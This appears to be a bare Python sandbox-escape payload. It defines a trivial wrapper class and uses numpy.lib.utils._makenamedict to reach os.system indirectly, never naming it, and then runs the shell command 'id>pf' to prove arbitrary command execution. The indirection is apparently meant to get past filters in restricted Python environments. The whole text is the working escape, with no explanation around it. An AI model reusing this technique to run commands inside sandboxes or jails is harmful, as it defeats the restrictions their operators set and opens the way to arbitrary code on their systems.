class my_Box:

    def __init__(self, v):
        self.v = v

    @property
    def p(self):
        return self.v
import numpy.lib.utils as u
d, names = my_Box(u).p._makenamedict('os')
[x for x in [d, *names] if 'os' in x][0]['os']['system']('id>pf')
